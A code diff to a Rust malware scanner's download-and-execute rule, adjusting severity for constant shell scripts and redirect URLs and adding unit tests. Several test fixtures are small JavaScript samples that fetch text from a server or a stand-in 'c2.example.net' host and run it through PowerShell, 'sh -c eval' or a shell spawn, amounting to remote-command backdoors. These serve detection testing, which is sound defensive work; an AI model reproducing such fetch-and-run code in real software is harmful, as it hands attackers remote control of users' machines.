@@ -54,7 +54,10 @@ diligence_finding::declare_rule! {
     /// a download written to a place that runs it. Code generators calling `Function` by name with template-built
     /// code, and wasm codecs whose data segments name no module and hold no command, are not decoded as hidden code.
     /// Tag loaders (analytics, consent, chat widgets) point a `<script>` at a URL in the clear, and QR and image
-    /// decoders return the text they read: neither is reported.
+    /// decoders return the text they read: neither is reported. Browser installers that unpack a download with
+    /// a constant shell script taking the archive's path as an argument (`powershell -Command '& { Expand-Archive
+    /// $args[0] … }'`), and downloaders that follow a redirect's `Location` with a download command, are medium:
+    /// the network data is an argument or a URL there, not the command.
     pub static DOWNLOAD_EXEC = { id: "code/download-exec", severity: Severity::High };
 }
 
@@ -117,7 +120,16 @@ fn paths(p: &PackageFacts) -> Vec<CodeFinding> {
         // A page evaluating what the server that served it sends (a dev server's hot-reload
         // socket at `location.host`) runs its own origin's code, not a third party's.
         let own_origin = path.from.what.ends_with(crate::js::flow::SAME_ORIGIN);
+        // A shell run on a constant script that takes the download as its argument (an
+        // archive path handed to `Expand-Archive`), or a redirect's `Location` followed by a
+        // download command: the network data is an argument or a URL, not the command.
+        let data_not_command = path.flags & flags::CONST_SCRIPT != 0
+            || path
+                .steps
+                .iter()
+                .any(|s| s.what == crate::flow::REDIRECT_TARGET);
         let sev = match path.sink {
+            SinkKind::Exec if data_not_command => Severity::Medium,
             SinkKind::Exec => match path.path_key.as_deref() {
                 Some(prog)
                     if !SHELLS.contains(&prog)
@@ -508,6 +520,137 @@ mod tests {
             ("run.js", 2, diligence_finding::Severity::Critical)
         );
         assert_eq!(s.verdict, crate::Verdict::Malicious);
+    }
+
+    /// A browser installer downloads an archive and unpacks it with PowerShell: the script is a
+    /// constant that takes the archive's path as an argument, so the download is data (medium).
+    #[test]
+    fn negative_archive_path_handed_to_a_constant_shell_script() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "install.js",
+                "const https = require('https');\nconst { execFile } = require('child_process');\nfunction unpack(archive, dir) {\n  execFile('powershell.exe', ['-NoProfile', '-Command', '& { Expand-Archive -LiteralPath $args[0] -DestinationPath $args[1] }', archive, dir]);\n}\nhttps.get('https://dl.example.org/app.zip', (res) => {\n  let p = '';\n  res.on('data', (c) => { p += c; });\n  res.on('end', () => unpack(p, 'out'));\n});\n",
+            ),
+        ]);
+        assert_eq!(
+            crate::rules::test_util::severity(&s, "code/download-exec"),
+            Some(diligence_finding::Severity::Medium)
+        );
+    }
+
+    /// The same shell handed the received text as its script, or a constant script that
+    /// evaluates its argument, runs the network's code (critical).
+    #[test]
+    fn positive_received_text_as_the_shell_script() {
+        for argv in [
+            "['-NoProfile', '-Command', p]",
+            "['-c', 'eval \"$1\"', 'sh', p]",
+            "['-c', '\"$0\"', p]",
+        ] {
+            let prog = if argv.contains("NoProfile") {
+                "powershell.exe"
+            } else {
+                "sh"
+            };
+            let code = format!(
+                "const https = require('https');\nconst {{ execFile }} = require('child_process');\nhttps.get('https://dl.example.org/t', (res) => {{\n  let p = '';\n  res.on('data', (c) => {{ p += c; }});\n  res.on('end', () => execFile('{prog}', {argv}));\n}});\n"
+            );
+            let s = scan(&[("package.json", PJ), ("agent.js", &code)]);
+            assert_eq!(
+                crate::rules::test_util::severity(&s, "code/download-exec"),
+                Some(diligence_finding::Severity::Critical),
+                "{argv}"
+            );
+        }
+    }
+
+    /// A binary downloader follows a redirect: the `Location` it received goes into a download
+    /// command as the URL (medium), not as the command.
+    #[test]
+    fn negative_redirect_location_in_a_download_command() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "download.js",
+                "const https = require('https');\nconst { exec } = require('child_process');\nfunction fetchWin(url, dest) {\n  exec(`powershell \"Invoke-WebRequest -URI ${url} -OutFile ${dest}\"`);\n}\nfunction get(url, dest) {\n  https.get(url, (res) => {\n    if (res.statusCode === 302) return fetchWin(res.headers.location, dest);\n    res.pipe(require('fs').createWriteStream(dest));\n  });\n}\nget('https://api.example.org/releases/tool.zip', 'tool.zip');\n",
+            ),
+        ]);
+        assert_eq!(
+            crate::rules::test_util::severity(&s, "code/download-exec"),
+            Some(diligence_finding::Severity::Medium)
+        );
+    }
+
+    /// A header other than the redirect target, put into a command, is received text run as
+    /// code (critical).
+    #[test]
+    fn positive_response_header_in_a_command() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "agent.js",
+                "const https = require('https');\nconst { exec } = require('child_process');\nhttps.get('https://c2.example.net/ping', (res) => {\n  exec(`powershell \"${res.headers['x-task']}\"`);\n});\n",
+            ),
+        ]);
+        assert_eq!(
+            crate::rules::test_util::severity(&s, "code/download-exec"),
+            Some(diligence_finding::Severity::Critical)
+        );
+    }
+
+    /// A CLI names its helpers with `Object.defineProperty(fn, 'name', …)` (a bundler's
+    /// `__name`), connects to its parent over a local pipe whose path one helper builds, and
+    /// spawns a program at a path built by the same helper: naming a function does not call
+    /// it, so the connection's data never reaches the helper's parameter.
+    #[test]
+    fn negative_named_helper_shared_by_a_connection_and_a_spawn() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "pipe.mjs",
+                "const name = (fn, n) => Object.defineProperty(fn, 'name', { value: n, configurable: true });\nexport const pipePath = name((pid) => `/tmp/app-${pid}.pipe`, 'pipePath');\n",
+            ),
+            (
+                "client.mjs",
+                "import net from 'node:net';\nimport { pipePath } from './pipe.mjs';\nconst p = pipePath(process.ppid);\nconst sock = net.createConnection(p, () => {});\nsock.on('error', () => {});\n",
+            ),
+            (
+                "cli.mjs",
+                "import { spawn } from 'node:child_process';\nimport { pipePath } from './pipe.mjs';\nspawn(pipePath(process.pid), []);\n",
+            ),
+        ]);
+        assert!(hits(&s, "code/download-exec").is_empty());
+    }
+
+    /// Two functions named through one `__name`-style helper stay apart: received data given
+    /// to the formatter does not reach the runner (the helper returns what it names).
+    #[test]
+    fn negative_functions_named_by_one_helper_stay_apart() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "cli.js",
+                "const { spawn } = require('child_process');\nconst net = require('net');\nconst name = (fn, n) => Object.defineProperty(fn, 'name', { value: n, configurable: true });\nconst run = name((cmd) => spawn(cmd, { shell: true }), 'run');\nconst label = name((x) => `[${x}]`, 'label');\nconst sock = net.createConnection(4444, 'c2.example.net');\nsock.on('data', (d) => console.log(label(String(d))));\nrun('git status');\n",
+            ),
+        ]);
+        assert!(hits(&s, "code/download-exec").is_empty());
+    }
+
+    /// The same named helper handed what a connection received does run it.
+    #[test]
+    fn positive_named_helper_given_received_data() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "run.mjs",
+                "import net from 'node:net';\nimport { spawn } from 'node:child_process';\nconst name = (fn, n) => Object.defineProperty(fn, 'name', { value: n, configurable: true });\nconst run = name((cmd) => spawn(cmd, { shell: true }), 'run');\nconst sock = net.createConnection(4444, 'c2.example.net');\nsock.on('data', (d) => run(String(d)));\n",
+            ),
+        ]);
+        assert_eq!(
+            crate::rules::test_util::severity(&s, "code/download-exec"),
+            Some(diligence_finding::Severity::Critical)
+        );
     }
 
     /// An update helper runs `npm install` with a version it read from the registry.
